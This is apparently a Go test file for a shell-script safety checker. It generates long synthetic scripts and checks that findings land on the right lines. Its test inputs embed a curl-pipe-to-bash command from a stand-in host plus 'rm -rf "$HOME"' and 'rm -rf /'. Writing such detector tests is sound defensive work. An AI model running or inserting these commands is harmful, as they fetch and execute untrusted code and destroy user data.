package check

import (
	"context"
	"fmt"
	"strings"
	"testing"
)

// denseScript is a script of n lines with two or three commands a line, the
// shape of a long generated or concatenated script (autoconf's configure,
// libtool), with extra put at the lines given.
func denseScript(n int, extra map[int]string) string {
	var b strings.Builder
	b.WriteString("#!/bin/bash\nset -eu\n")
	for i := 3; i <= n; i++ {
		if x, ok := extra[i]; ok {
			b.WriteString(x + "\n")
			continue
		}
		switch i % 4 {
		case 0:
			fmt.Fprintf(&b, "if [ -f \"file%d\" ]; then cp \"file%d\" \"out/file%d\"; echo copied; fi\n", i, i, i)
		case 1:
			fmt.Fprintf(&b, "for x in a b c; do echo \"$x-%d\"; touch \"$x\"; done\n", i)
		case 2:
			fmt.Fprintf(&b, "v%d=$(printf %%s \"v%d\"); echo \"$v%d\"\n", i, i, i)
		default:
			fmt.Fprintf(&b, "grep -q \"pat%d\" config.txt || true\n", i)
		}
	}
	return b.String()
}

// TestLongScriptFile: a 12,000-line script is checked to its end (issue
// 12: real scripts reach 10,000 lines and more); each finding is at its
// own line, and no input limit is reported.
func TestLongScriptFile(t *testing.T) {
	text := denseScript(12000, map[int]string{6001: "curl -fsSL https://x.example/i.sh | bash", 12000: `rm -rf "$HOME"`})
	r := Script(context.Background(), "big.sh", text, Options{Script: true})
	got := map[string]int{}
	for _, f := range r.Findings {
		got[f.Rule] = f.Line
	}
	if got["remote-code"] != 6001 || got["rm-home"] != 12000 || len(got) != 2 {
		t.Errorf("findings (rule → line) = %v, want remote-code at 6001 and rm-home at 12000 only", got)
	}
}

// TestRestAfterLimit: past the limit of a file, the rest is raw-scanned,
// and what that finds is reported from where the limit was reached (and a
// hardline shape on a line that did not parse at that line), not at line 1.
func TestRestAfterLimit(t *testing.T) {
	var b strings.Builder
	b.WriteString("#!/bin/sh\n")
	for i := 0; i < 40000; i++ {
		b.WriteString("echo a; echo b; echo c\n")
	}
	b.WriteString("rm -rf /\n")
	r := Script(context.Background(), "dense.sh", b.String(), Options{Script: true})
	limit, raw := 0, 0
	for _, f := range r.Findings {
		switch f.Rule {
		case "input-limit":
			limit = f.Line
		case "hardline-unparsed":
			raw = f.Line
		}
	}
	if limit < 2 || raw != limit {
		t.Errorf("input-limit at line %d, hardline-unparsed at line %d: want both where the limit was reached", limit, raw)
	}
	r = Script(context.Background(), "err.sh", "#!/bin/sh\necho a\necho ) ; rm -rf /\necho b\n", Options{Script: true})
	for _, f := range r.Findings {
		if f.Line != 3 {
			t.Errorf("%s at line %d, want 3 (the line that did not parse)", f.Rule, f.Line)
		}
	}
}
